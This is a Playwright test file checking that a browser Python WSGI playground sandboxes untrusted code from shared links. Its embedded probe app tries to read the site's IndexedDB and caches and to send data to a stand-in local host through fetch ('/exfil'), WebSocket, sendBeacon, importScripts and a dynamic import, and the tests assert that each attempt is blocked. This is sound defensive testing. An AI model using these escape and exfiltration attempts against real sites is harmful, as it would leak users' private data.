/**
 * User story: I open a stranger's link. Its code runs in a sandbox: it cannot open this site's
 * IndexedDB or Cache Storage (where the site, and later my cached and hand-added wheels, are
 * kept), and it cannot send anything to another host — each attempt fails with a message in
 * the trace that says why. Served isolated and not.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page, Request } from '@playwright/test';
import { expect, openPlayground, plainSiteUrl, test } from './support/playground.ts';

/** A server on another loopback address, standing for "another host": it counts who calls. */
async function otherHost(): Promise<{ url: string; hits: string[]; server: Server }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('received');
  });
  server.on('upgrade', (request, socket) => {
    hits.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.2:${port}`, hits, server };
}

/** An app that tries every way out it can, and answers with what each attempt gave. */
const probeApp = (host: string) => `import js
host = ${JSON.stringify(host)}
report = []

def attempt(name, action):
    try:
        report.append(f"{name}: {action()}")
    except Exception as error:
        report.append(f"{name}: {type(error).__name__}: {error}")

attempt("origin", lambda: js.self.origin)
attempt("indexedDB", lambda: js.indexedDB.open("probe-db"))
attempt("indexedDB by eval", lambda: js.eval("indexedDB.open('site-private')"))
attempt("caches", lambda: js.caches.keys())
attempt("caches by eval", lambda: js.eval("caches.keys()"))
attempt("fetch", lambda: js.fetch(host + "/exfil?x=1"))
attempt("XMLHttpRequest", lambda: js.XMLHttpRequest.new().open("GET", host + "/xhr"))
attempt("WebSocket", lambda: js.WebSocket.new(host.replace("http", "ws") + "/ws"))
attempt("EventSource", lambda: js.EventSource.new(host + "/events"))
attempt("sendBeacon", lambda: js.navigator.sendBeacon(host + "/beacon", "x"))
attempt("importScripts", lambda: js.importScripts(host + "/script.js"))
# Past the explanations, the policy itself: a module import is no fetch call.
js.eval(f"import('{host}/module.js').catch(() => {{}})")

def application(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    return ["\\n".join(report).encode()]
`;

/** The same fetch at the app's own line: its trace says why it failed. */
const FETCHING_APP = (host: string) => `import js

def application(environ, start_response):
    js.fetch(${JSON.stringify(host)} + "/from-the-app")
    start_response("200 OK", [])
    return [b"sent"]
`;

async function run(page: Page, code: string) {
  return page.evaluate(async (source) => {
    const hook = window.__wsgiPlayground;
    if (!hook) throw new Error('no test hook');
    hook.setCode(source);
    const trace = await hook.run();
    return {
      outcome: trace.outcome,
      body: atob(trace.response.bodyBase64),
      exceptions: trace.events.flatMap((event) =>
        event.kind === 'exception' ? [{ message: event.message, line: event.line }] : [],
      ),
    };
  }, code);
}

/** Keep something private in the site's own storage, as cached wheels will be. */
async function storePrivateThings(page: Page): Promise<void> {
  await page.evaluate(async () => {
    await new Promise<void>((resolve, reject) => {
      const request = indexedDB.open('site-private', 1);
      request.addEventListener('upgradeneeded', () => request.result.createObjectStore('wheels'));
      request.addEventListener('error', () => reject(request.error));
      request.addEventListener('success', () => {
        const transaction = request.result.transaction('wheels', 'readwrite');
        transaction.objectStore('wheels').put('private code', 'mine-1.0-py3-none-any.whl');
        transaction.addEventListener('complete', () => resolve());
      });
    });
    const cache = await caches.open('site-private');
    await cache.put('/mine-1.0-py3-none-any.whl', new Response('private code'));
  });
}

for (const setup of ['isolated', 'not isolated'] as const) {
  test(`served ${setup}: a run reaches no storage of the site and no other host`, async ({
    page,
    baseURL,
  }) => {
    const host = await otherHost();
    // Every request the browser reports, and those its Content-Security-Policy blocked before
    // they were sent (it reports those too, failed with "csp").
    const requests: Request[] = [];
    const blockedByPolicy = new Set<Request>();
    page.context().on('request', (request) => requests.push(request));
    page.context().on('requestfailed', (request) => {
      if (request.failure()?.errorText === 'csp') blockedByPolicy.add(request);
    });
    try {
      await openPlayground(page, setup === 'isolated' ? '/' : plainSiteUrl(baseURL));
      await storePrivateThings(page);
      await page.getByLabel('Live').uncheck();

      const probe = await run(page, probeApp(host.url));
      expect(probe.outcome).toBe('complete');
      const said = Object.fromEntries(
        probe.body.split('\n').map((line) => [line.slice(0, line.indexOf(':')), line]),
      );
      expect(said.origin).toBe('origin: null'); // an opaque origin: no storage of the site's
      expect(said.indexedDB).toMatch(/indexedDB: AttributeError/);
      expect(said['indexedDB by eval']).toMatch(/ReferenceError: indexedDB is not defined/);
      expect(said.caches).toMatch(/caches: AttributeError/);
      expect(said['caches by eval']).toMatch(/ReferenceError: caches is not defined/);
      const blocked = (api: string, path: string) =>
        new RegExp(`The sandbox blocked ${api} to ${host.url}${path}: a run may connect only to`);
      expect(said.fetch).toMatch(blocked('fetch', '/exfil\\?x=1'));
      expect(said.XMLHttpRequest).toMatch(blocked('an XMLHttpRequest', '/xhr'));
      expect(said.WebSocket).toMatch(
        new RegExp(blocked('a WebSocket', '/ws').source.replace('http', 'ws')),
      );
      expect(said.EventSource).toMatch(blocked('an EventSource', '/events'));
      expect(said.sendBeacon).toMatch(blocked('navigator.sendBeacon', '/beacon'));
      expect(said.importScripts).toMatch(/The sandbox has no importScripts/);

      const fetching = await run(page, FETCHING_APP(host.url));
      expect(fetching.outcome).toBe('app-error');
      expect(fetching.exceptions[0]).toMatchObject({
        line: 4,
        message: expect.stringMatching(blocked('fetch', '/from-the-app')),
      });

      // The site's own storage is as it was: nothing opened, nothing read or written.
      const storage = await page.evaluate(async () => ({
        databases: (await indexedDB.databases()).map((database) => database.name).sort(),
        cached: await (
          await (await caches.open('site-private')).match('/mine-1.0-py3-none-any.whl')
        )?.text(),
      }));
      expect(storage.databases).toEqual(['site-private']);
      expect(storage.cached).toBe('private code');

      await page.waitForTimeout(500); // anything in flight would have arrived by now
      expect(host.hits, 'requests the other host received').toEqual([]);
      const toHost = requests.filter((request) => request.url().startsWith(host.url));
      expect(
        toHost.filter((request) => !blockedByPolicy.has(request)).map((r) => r.url()),
        'requests to the other host the policy did not block',
      ).toEqual([]);
      // The import that gets past the explanations is stopped by the policy itself.
      expect(toHost.map((request) => request.url())).toEqual([`${host.url}/module.js`]);
    } finally {
      host.server.close();
    }
  });
}
